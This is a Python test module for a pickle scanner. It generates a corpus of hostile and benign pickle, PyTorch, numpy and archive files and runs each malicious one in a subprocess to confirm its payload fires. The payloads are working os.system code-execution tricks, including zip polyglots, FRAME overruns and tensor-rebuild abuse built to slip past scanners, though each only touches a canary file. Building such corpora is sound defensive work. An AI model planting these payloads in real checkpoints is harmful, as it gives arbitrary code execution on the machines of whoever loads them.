"""The project's own corpus of hostile and benign pickle files (generated, never committed).

Every malicious case writes a canary file when its payload runs. `LOADERS` names how a
real program loads each one (`pickle.loads`, `torch.load(weights_only=False)`, ...);
`prove_live` runs those loaders in a throw-away subprocess so tests can show each payload
is live, while omgtool itself only ever walks the bytes.

    python -m tests.safety_corpus OUT_DIR     # write the corpus (for bench/bench_scan_compare.py)
"""

from __future__ import annotations

import argparse
import collections
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zlib
from dataclasses import asdict, dataclass
from pathlib import Path

SYSTEM_MODULE = os.system.__module__  # "posix" on Linux


@dataclass
class Case:
    name: str  # file name in the corpus folder
    cls: str  # the class of trick (one row of the comparison table)
    expect: str  # "dangerous" | "unknown" | "safe"
    loader: str | None = None  # how a real program runs it (malicious cases)
    canary: str | None = None


# --- payload building blocks ----------------------------------------------------------------


def _unicode(s: str) -> bytes:
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def system_call(canary: Path, pop: bool = False) -> bytes:
    """Protocol-4 opcodes (no PROTO, no STOP) that call os.system('touch canary')."""
    body = (_unicode(SYSTEM_MODULE) + _unicode("system") + b"\x93" + _unicode(f"touch {canary}")
            + b"\x85R")
    return body + (b"0" if pop else b"")


class _System:
    def __init__(self, canary):
        self.canary = str(canary)

    def __reduce__(self):
        return os.system, (f"touch {self.canary}",)


class _Storage:
    def __init__(self, key, storage_type, numel):
        self.key, self.storage_type, self.numel = key, storage_type, numel


class _Tensor:
    def __init__(self, storage, size):
        self.args = (storage, 0, tuple(size), tuple(_contiguous(size)), False, collections.OrderedDict())

    def __reduce__(self):
        import torch

        return torch._utils._rebuild_tensor_v2, self.args


def _contiguous(size):
    out, acc = [], 1
    for s in reversed(size):
        out.insert(0, acc)
        acc *= s
    return out


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _Storage):
            return ("storage", obj.storage_type, obj.key, "cpu", obj.numel)
        return None


def torch_pickle(obj, protocol: int = 2) -> bytes:
    buf = io.BytesIO()
    _TorchPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def weights(values=(1.0, 2.0, 3.0, 4.0)):
    """A one-tensor state dict pickle body and its storage bytes."""
    import torch

    sd = collections.OrderedDict(w=_Tensor(_Storage("0", torch.FloatStorage, len(values)), (len(values),)))
    return sd, struct.pack(f"<{len(values)}f", *values)


# --- a tiny zip writer: full control over offsets, names and directories ----------------------


def _zip_parts(entries: list[tuple[str, bytes]], base: int, stated_shift: int = 0, comment: bytes = b""):
    """(local records, central directory) for STORED `entries` placed at absolute `base`;
    central-directory offsets are stated as absolute - stated_shift."""
    local, central, pos = bytearray(), bytearray(), base
    for name, data in entries:
        raw = name.encode()
        crc = zlib.crc32(data)
        header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(raw), 0)
        central += struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, crc, len(data),
                               len(data), len(raw), 0, len(comment), 0, 0, 0, pos - stated_shift) + raw + comment
        local += header + raw + data
        pos += len(header) + len(raw) + len(data)
    return bytes(local), bytes(central)


def _eocd(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def zip_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    local, central = _zip_parts(entries, 0)
    return local + central + _eocd(len(entries), len(central), len(local))


def torch_zip_entries(data_pkl: bytes, storage: bytes, pkl_name: str = "archive/data.pkl"):
    return [(pkl_name, data_pkl), ("archive/data/0", storage), ("archive/version", b"3\n"),
            ("archive/byteorder", b"little")]


def two_directory_polyglot(torch_entries, zipfile_entries) -> bytes:
    """One file, two central directories: torch (miniz) reads the one the end record states,
    Python's zipfile the one just before the end record (it assumes prepended data)."""
    pad = ("archive/pad", b"\0" * 4096)  # torch's part must be at least as long as zipfile's
    a_entries = list(torch_entries) + [pad]
    b_entries = list(zipfile_entries) + [("archive/pad", b"")]
    a_local, a_central = _zip_parts(a_entries, 0)
    b_base = len(a_local) + len(a_central)
    probe_local, _ = _zip_parts(b_entries, b_base)
    shift = len(a_central) + len(probe_local)  # what zipfile will add back to every offset
    comment = b"c" * 64  # zipfile's directory is the longer one: torch reads its size from the end record
    b_local, b_central = _zip_parts(b_entries, b_base, stated_shift=shift, comment=comment)
    assert len(b_central) >= len(a_central)
    return a_local + a_central + b_local + b_central + _eocd(len(a_entries), len(b_central), len(a_local))


# --- the corpus -----------------------------------------------------------------------------


def build(out: Path, canaries: Path) -> list[Case]:
    """Write every case into `out`; canaries (payload proof files) go under `canaries`."""
    import numpy as np
    import torch

    out.mkdir(parents=True, exist_ok=True)
    canaries.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def bad(name, cls, loader, make, expect="dangerous"):
        canary = canaries / (name + ".ran")
        (out / name).write_bytes(make(canary))
        cases.append(Case(name, cls, expect, loader, str(canary)))

    def good(name, cls, data: bytes, expect="safe"):
        (out / name).write_bytes(data)
        cases.append(Case(name, cls, expect))

    sd, storage = weights()

    # bare pickles, every protocol (0 and 1 are text-like: no 0x80 first byte)
    for proto in range(6):
        bad(f"bare_p{proto}.pkl", "bare pickle", "pickle.loads",
            lambda c, p=proto: pickle.dumps({"x": _System(c)}, protocol=p))
    bad("concatenated.pkl", "concatenated pickles", "pickle.load_all",
        lambda c: pickle.dumps({"ok": 1}, protocol=2) + pickle.dumps(_System(c), protocol=2))
    bad("builtin_eval_py2.pkl", "bare pickle", "pickle.loads",
        lambda c: b"\x80\x02c__builtin__\neval\nX" + struct.pack("<I", len(f"__import__('os').system('touch {c}')"))
        + f"__import__('os').system('touch {c}')".encode() + b"\x85R.")
    bad("getattr_chain.pkl", "bare pickle", "pickle.loads",  # getattr(__import__('os'), 'system')(...)
        lambda c: b"\x80\x04" + _unicode("builtins") + _unicode("getattr") + b"\x93" + _unicode("builtins")
        + _unicode("__import__") + b"\x93" + _unicode("os") + b"\x85R" + _unicode("system") + b"\x86R"
        + _unicode(f"touch {c}") + b"\x85R.")
    bad("memo_stack_global.pkl", "bare pickle", "pickle.loads",
        lambda c: b"\x80\x04" + _unicode(SYSTEM_MODULE) + b"\x94" + _unicode("system") + b"\x94"
        + b"0" + b"0" + b"h\x00h\x01\x93" + _unicode(f"touch {c}") + b"\x85R.")
    bad("malformed_after_payload.pkl", "malformed after payload", "pickle.loads",
        lambda c: b"\x80\x04" + system_call(c) + b"h\x07.")  # BINGET of a missing memo key
    bad("truncated_after_payload.pkl", "malformed after payload", "pickle.loads",
        lambda c: b"\x80\x04" + system_call(c) + b"X\xff\xff\x00\x00ab")
    bad("not_a_checkpoint.safetensors", "not a checkpoint", "pickle.loads",
        lambda c: pickle.dumps(_System(c), protocol=4))

    # legacy torch files
    def legacy(first, data_obj):
        buf = io.BytesIO()
        for obj in first:
            buf.write(obj if isinstance(obj, bytes) else pickle.dumps(obj, protocol=2))
        buf.write(torch_pickle(data_obj, protocol=2))
        buf.write(pickle.dumps(["0"], protocol=2))
        buf.write(struct.pack("<q", 4) + storage)
        return buf.getvalue()

    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 8}}
    bad("legacy_payload_as_magic.pth", "legacy torch", "torch.load",
        lambda c: legacy([pickle.dumps(_System(c), protocol=2), 1001, sys_info], sd))
    bad("legacy_payload_in_data.pth", "legacy torch", "torch.load",
        lambda c: legacy([0x1950A86A20F9469CFC6C, 1001, sys_info],
                         collections.OrderedDict(cfg=_System(c), w=sd["w"])))

    # torch zip files
    def tzip(data_pkl, **kw):
        return zip_bytes(torch_zip_entries(data_pkl, storage, **kw))

    body = torch_pickle(sd, protocol=2)  # PROTO 2 ... STOP
    bad("zip_payload_in_data.pth", "torch zip", "torch.load",
        lambda c: tzip(torch_pickle(collections.OrderedDict(w=sd["w"], cfg=_System(c)), protocol=3)))
    bad("zip_payload_before_state_dict.pth", "torch zip", "torch.load",
        lambda c: tzip(b"\x80\x02" + system_call(c) + body[2:]))  # STOP returns the dict on top
    bad("zip_frame_overrun.pth", "FRAME overrun", "torch.load", lambda c: tzip(frame_overrun(c, body)))
    bad("zip_storage_type_payload.pth", "dangerous in tensor rebuild", "torch.load",
        lambda c: tzip(storage_type_payload(c)))
    bad("zip_rebuild_from_type_payload.pth", "dangerous in tensor rebuild", "torch.load",
        lambda c: tzip(rebuild_from_type_payload(c, body)))
    bad("zip_misnamed_data_pkl.pth", "zip member tricks", "torch.load",
        lambda c: tzip(torch_pickle(collections.OrderedDict(w=sd["w"], cfg=_System(c)), protocol=3),
                       pkl_name="archive/DATA.PKL"))
    bad("zip_extra_member.pth", "zip member tricks", "zip_member:archive/extra.pkl",
        lambda c: zip_bytes(torch_zip_entries(body, storage) + [("archive/extra.pkl", pickle.dumps(_System(c)))]))
    bad("zip_no_data_pkl.zip", "zip member tricks", "zip_member:archive/model.pkl",
        lambda c: zip_bytes([("archive/model.pkl", pickle.dumps(_System(c), protocol=2)),
                             ("archive/version", b"3\n")]))
    bad("zip_duplicate_data_pkl.pth", "zip member tricks", "torch.load",
        lambda c: duplicate_names(c, body))
    bad("zip_bad_crc.pth", "zip member tricks", "torch.load",  # zipfile: "Bad CRC-32"; torch does not check
        lambda c: damaged(tzip(torch_pickle(collections.OrderedDict(w=sd["w"], cfg=_System(c)), protocol=3)),
                          crc=True))
    bad("zip_local_name_differs.pth", "zip member tricks", "torch.load",  # zipfile refuses; torch reads
        lambda c: damaged(tzip(torch_pickle(collections.OrderedDict(w=sd["w"], cfg=_System(c)), protocol=3)),
                          local_name=True))
    bad("zip_two_directories.pth", "zip polyglot", "torch.load",
        lambda c: two_directory_polyglot(
            torch_zip_entries(torch_pickle(collections.OrderedDict(w=sd["w"], cfg=_System(c)), protocol=3),
                              storage),
            torch_zip_entries(body, storage)))
    bad("pickle_then_zip.pth", "zip polyglot", "torch.load",
        lambda c: pickle.dumps(_System(c), protocol=2) + tzip(body))
    bad("zip_embedded_pickle.pth", "embedded pickle", "embedded:cfg",
        lambda c: tzip(torch_pickle(collections.OrderedDict(w=sd["w"], cfg=pickle.dumps(_System(c), protocol=4)),
                                    protocol=2)))  # bytes as _codecs.encode, which weights_only accepts

    # numpy
    bad("object_array.npy", "numpy object array", "np.load", lambda c: _npy_object(c))
    bad("object_array.npz", "numpy object array", "np.load:arr_0", lambda c: zip_bytes([("arr_0.npy", _npy_object(c))]))

    # tar-format legacy torch file, also a valid pickle stream at offset 0
    bad("legacy_tar.pth", "legacy tar", "torch.load", lambda c: tar_polyglot(c))

    # benign: must stay safe
    def saved(obj, **kw):
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    good("benign_state_dict.pth", "benign", saved(collections.OrderedDict(a=torch.ones(2, 3), b=torch.zeros(4))))
    good("benign_nested.pth", "benign", saved({"model": {"w": torch.ones(2)}, "step": 3, "cfg": {"lr": 1e-3,
                                                "betas": (0.9, 0.99), "names": ["a", "b"]}}))
    good("benign_bare_tensor.pth", "benign", saved(torch.arange(6.0)))
    good("benign_sets.pth", "benign", saved({"tags": {"a", "b"}, "frozen": frozenset({1, 2}), "w": torch.ones(1)}))
    good("benign_numpy_scalars.pth", "benign", saved({"w": torch.ones(1), "loss": np.float64(0.5),
                                                      "step": np.int64(7)}))
    good("benign_parameter_bf16.pth", "benign", saved({"p": torch.nn.Parameter(torch.ones(2, dtype=torch.bfloat16)),
                                                       "c": complex(1, 2), "raw": b"bytes", "t": (1, "x")}))
    good("benign_legacy.pth", "benign", saved({"w": torch.ones(3)}, _use_new_zipfile_serialization=False))
    for proto in range(6):
        good(f"benign_bare_p{proto}.pkl", "benign", pickle.dumps(
            {"a": [1, 2.5, (3, "x")], "s": {1, 2}, "o": collections.OrderedDict(k=None), "b": b"\x80\x02"},
            protocol=proto))

    # unknown: not dangerous, but a real load runs their code; --allow-global accepts them
    good("unknown_namespace.ckpt", "unknown", saved({"state_dict": collections.OrderedDict(w=torch.ones(2, 2)),
                                                     "hyper_parameters": argparse.Namespace(lr=0.1, layers=2)}),
         expect="unknown")
    good("unknown_numpy_array.pth", "unknown", saved({"w": torch.ones(1), "arr": np.arange(3)}), expect="unknown")
    (out / "index.json").write_text(json.dumps([asdict(c) for c in cases], indent=1))
    return cases


def frame_overrun(canary: Path, state_dict_pickle: bytes) -> bytes:
    """A FRAME whose last opcode's length field runs past the frame's end.

    pickletools.genops and pickle.loads read on: the BINBYTES length swallows the payload
    as data. torch.load's C unpickler (reading an io.BytesIO) drops the frame's last two
    bytes and reads a fresh length (0) after the frame: the payload runs."""
    payload = system_call(canary, pop=True)
    tail = b"0" + state_dict_pickle[2:]  # POP (the string), then the state dict, STOP
    frame_body = b"B" + struct.pack("<H", 2 + len(payload))  # low half of the length genops sees
    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame_body)) + frame_body
            + b"\0\0" + b"\0\0" + payload + tail)


def storage_type_payload(canary: Path) -> bytes:
    """A tensor whose storage type slot (torch.FloatStorage normally) is the result of
    os.system: it runs while the persistent id is built."""
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\n"
    pid = (b"(X\x07\x00\x00\x00storage" + b"c" + SYSTEM_MODULE.encode() + b"\nsystem\n"
           + b"X" + struct.pack("<I", len(f"touch {canary}")) + f"touch {canary}".encode() + b"\x85R"
           + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ")
    tensor = rebuild + b"(" + pid + b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
    return b"\x80\x02ccollections\nOrderedDict\n)R(X\x01\x00\x00\x00w" + tensor + b"u."


def rebuild_from_type_payload(canary: Path, state_dict_pickle: bytes) -> bytes:
    """torch._tensor._rebuild_from_type_v2(os.system, torch.Tensor, ('touch ...',), {})."""
    call = (b"ctorch._tensor\n_rebuild_from_type_v2\n(c" + SYSTEM_MODULE.encode() + b"\nsystem\n"
            + b"ctorch\nTensor\n" + b"X" + struct.pack("<I", len(f"touch {canary}")) + f"touch {canary}".encode()
            + b"\x85}tR0")
    return b"\x80\x02" + call + state_dict_pickle[2:]


def damaged(raw: bytes, crc: bool = False, local_name: bool = False) -> bytes:
    """The first member (data.pkl) damaged in a way torch's reader tolerates and zipfile does not:
    a wrong CRC-32 (torch builds miniz without CRC checks), or a different name in its local header."""
    out = bytearray(raw)
    central = raw.index(b"PK\x01\x02")
    if crc:
        out[14:18] = out[central + 16:central + 20] = b"\xde\xad\xbe\xef"
    if local_name:
        out[30:37] = b"ARCHIVE"
    return bytes(out)


def duplicate_names(canary: Path, benign: bytes) -> bytes:
    """Two members named archive/data.pkl; torch reads the one its lookup lands on."""
    _, storage = weights()
    evil = torch_pickle(collections.OrderedDict(w=weights()[0]["w"], cfg=_System(canary)), protocol=3)
    entries = torch_zip_entries(benign, storage) + [("archive/data.pkl", evil)]
    return zip_bytes(entries)


def _npy_object(canary: Path) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (118 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle.dumps(
        [_System(canary)], protocol=3)


def tar_polyglot(canary: Path) -> bytes:
    """A tar-format legacy torch file whose `storages` member is a payload; its first 100
    bytes (the tar name field) are also a harmless pickle, so it is a pickle stream too."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in [("pad", b""), ("storages", pickle.dumps(_System(canary), protocol=2)),
                           ("tensors", pickle.dumps(0, protocol=2)), ("pickle", pickle.dumps({}, protocol=2))]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    name = b"\x80\x02K\x01."  # the first member's name field becomes a pickle of 1 (then NULs)
    raw[0:100] = name + b"\0" * (100 - len(name))
    raw[148:156] = b" " * 8
    raw[148:155] = f"{sum(raw[:512]):06o}\0".encode()
    return bytes(raw)


# --- live proofs (a subprocess: the payloads run there, never in the test process) ---------

_PROVE = r"""
import io, json, pickle, sys, zipfile
import numpy as np, torch
cases = json.loads(sys.argv[1]); folder = sys.argv[2]
def load_all(path):
    with open(path, "rb") as fh:
        while True:
            try: pickle.load(fh)
            except EOFError: return
for case in cases:
    path = f"{folder}/{case['name']}"
    loader = case["loader"]
    try:
        if loader == "pickle.loads": pickle.loads(open(path, "rb").read())
        elif loader == "pickle.load_all": load_all(path)
        elif loader == "torch.load": torch.load(path, weights_only=False)
        elif loader.startswith("zip_member:"): pickle.loads(zipfile.ZipFile(path).read(loader.split(":", 1)[1]))
        elif loader == "np.load": np.load(path, allow_pickle=True)
        elif loader.startswith("np.load:"): np.load(path, allow_pickle=True)[loader.split(":", 1)[1]]
        elif loader.startswith("embedded:"):
            pickle.loads(torch.load(path, weights_only=True)[loader.split(":", 1)[1]])
    except BaseException:
        pass
"""


def prove_live(cases: list[Case], folder: Path) -> dict[str, bool]:
    """Run each malicious case's loader in one throw-away subprocess; {name: canary exists}."""
    bad = [asdict(c) for c in cases if c.loader]
    subprocess.run([sys.executable, "-c", _PROVE, json.dumps(bad), str(folder)], capture_output=True,
                   timeout=300, cwd=folder)
    return {c["name"]: Path(c["canary"]).exists() for c in bad}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    args = parser.parse_args()
    cases = build(args.out, args.out / "canaries")
    print(f"wrote {len(cases)} files to {args.out}")


if __name__ == "__main__":
    main()
